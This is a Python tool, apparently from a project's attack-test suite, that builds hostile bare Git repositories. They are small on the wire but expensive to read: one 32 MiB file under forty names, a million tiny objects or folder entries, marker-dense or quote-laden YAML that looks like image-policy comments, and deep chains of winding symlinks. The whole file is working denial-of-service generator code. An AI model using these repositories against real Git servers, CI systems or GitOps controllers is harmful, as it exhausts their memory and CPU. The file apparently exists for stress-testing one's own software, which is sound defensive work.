"""Repositories that are small on the wire and large in whoever reads them.

    python -m hack.attacks.commits --shape same-file /tmp/hostile.git

Made with `git fast-import`, so Git itself finds nothing wrong with them.
"""

import argparse
import hashlib
import itertools
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from tempfile import TemporaryFile

MARKER = b'# {"$imagepolicy": "apps:app:tag"}'
MARKED = b"tag: 1.0.0 " + MARKER + b"\n"
MIB = 1 << 20
GIT = shutil.which("git") or "git"

Entry = tuple[str, bytes, bytes]
"""Mode, path and content."""


def same_file(*, names: int = 40, size: int = 32 * MIB) -> Iterator[Entry]:
    """Yield one large file under many names: 150 kB in the repository, 1.25 GiB in whoever reads each name."""
    content = MARKED + b"# filler\n" * (size // 9)
    return (("100644", b"n%d.yaml" % number, content) for number in range(names))


def large_file(*, size: int = 100 * MIB) -> Iterator[Entry]:
    """Yield a single large file, without a marker, that is looked at for its name."""
    yield "100644", b"large.yaml", b"# filler\n" * (size // 9)
    yield "100644", b"app.yaml", MARKED


def dense_markers(*, size: int = 10 * MIB) -> Iterator[Entry]:
    """Yield a file in which each line has a marker."""
    lines = (b"a%d: 1.0.0 " % number + MARKER + b"\n" for number in itertools.count())
    yield "100644", b"dense.yaml", b"".join(itertools.islice(lines, size // 48))


def quoted_markers(*, lines: int = 900) -> Iterator[Entry]:
    """Yield a file of comments that are nearly markers, with hundreds of quotes in a row."""
    comment = b'# {"$imagepolicy' + b'"' * 900 + b"{\n"
    yield "100644", b"quotes.yaml", comment + (b"image: r:1\n" + comment) * lines


def many_marked_files(*, files: int = 30_000) -> Iterator[Entry]:
    """Yield many small files with a marker each."""
    return (("100644", b"d%d/f%d.yaml" % (n // 500, n), b"# %d\n" % n + MARKED) for n in range(files))


def tiny_objects(*, objects: int = 1_000_000) -> Iterator[Entry]:
    """Yield a file for each object: 9 MB in the pack, minutes to index."""
    return (("100644", b"%d/%d" % (n // 1000, n), b"%d" % n) for n in range(objects))


def wide_folder(*, entries: int = 1_000_000) -> Iterator[Entry]:
    """Yield a folder with many names of one file."""
    return (("100644", b"%07d" % n, b"x") for n in range(entries))


def winding_links(*, links: int = 3, steps: int = 1300, entries: int = 100_000) -> Iterator[Entry]:
    """Yield links that go in and out of a folder many times, beside a great many files."""
    yield "100644", b"d/app.yaml", MARKED
    for number in range(links):
        yield "120000", b"l%d.yaml" % number, (b"d/../" * (steps // 2))[:4080].rpartition(b"d/")[0] + b"d/app.yaml"
    for number in range(entries):
        yield "100644", b"%06d" % number, b"x"


def chained_links(*, links: int = 40, rows: int = 500, entries: int = 20_000) -> Iterator[Entry]:
    """Yield links that lead to links, in many rows."""
    yield "100644", b"app.yaml", MARKED
    for row in range(rows):
        yield "120000", b"r%d-0.yaml" % row, b"app.yaml"
        for number in range(1, links):
            yield "120000", b"r%d-%d.yaml" % (row, number), b"r%d-%d.yaml" % (row, number - 1)
    for number in range(entries):
        yield "100644", b"%06d" % number, b"x"


SHAPES: dict[str, Callable[[], Iterable[Entry]]] = {
    "same-file": same_file,
    "large-file": large_file,
    "dense-markers": dense_markers,
    "quoted-markers": quoted_markers,
    "many-marked-files": many_marked_files,
    "tiny-objects": tiny_objects,
    "wide-folder": wide_folder,
    "winding-links": winding_links,
    "chained-links": chained_links,
}


def make(path: Path, entries: Iterable[Entry], *, branch: str = "main") -> str:
    """Make a bare repository with one commit; return the commit's id."""
    path.mkdir(parents=True, exist_ok=True)
    _git(path, "init", "-q", "--bare", "-b", branch)
    for name in ("uploadpack.allowAnySHA1InWant", "http.receivepack"):
        _git(path, "config", name, "true")
    folders: dict[bytes, list[bytes]] = {b"": []}
    _git(path, "fast-import", "--quiet", stdin=_blobs(entries, folders))
    tree = _trees(path, folders)
    commit = _git(path, "commit-tree", tree, "-m", "x")
    _git(path, "update-ref", f"refs/heads/{branch}", commit)
    return commit


def _git(path: Path, *arguments: str, stdin: Iterable[bytes] = ()) -> str:
    environment = {"PATH": os.environ.get("PATH", ""), "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    environment |= {
        f"GIT_{who}_{what}": "a@example.com" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")
    }
    with TemporaryFile() as file:
        file.writelines(stdin)
        file.seek(0)
        command = [GIT, "-C", str(path), *arguments]
        done = subprocess.run(command, stdin=file, capture_output=True, check=True, env=environment)
    return done.stdout.decode().strip()


def _blobs(entries: Iterable[Entry], folders: dict[bytes, list[bytes]]) -> Iterator[bytes]:
    """Yield what fast-import reads, each content once; note in `folders` what is in each folder, for mktree."""
    known: dict[bytes, bytes] = {}
    for mode, path, content in entries:
        if content not in known:
            known[content] = hashlib.sha1(b"blob %d\0%s" % (len(content), content)).hexdigest().encode()  # noqa: S324
            yield b"blob\ndata %d\n%s\n" % (len(content), content)
        folder, _, name = path.rpartition(b"/")
        folders.setdefault(folder, []).append(b"%s blob %s\t%s\n" % (mode.encode(), known[content], name))


def _trees(path: Path, folders: dict[bytes, list[bytes]]) -> str:
    """Make the folders, which are one level deep, and the root; return its id."""
    names = [name for name in folders if name]
    ids = _git(path, "mktree", "--batch", stdin=(b"".join(folders[name]) + b"\n" for name in names)).split()
    root = [*folders[b""], *(b"040000 tree %s\t%s\n" % (i.encode(), n) for i, n in zip(ids, names, strict=True))]
    return _git(path, "mktree", stdin=root)


def main(arguments: list[str]) -> int:
    """Make one repository."""
    parser = argparse.ArgumentParser(prog="python -m hack.attacks.commits")
    parser.add_argument("--shape", choices=SHAPES, default="same-file")
    parser.add_argument("path", type=Path)
    options = parser.parse_args(arguments)
    print(make(options.path, SHAPES[options.shape]()))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
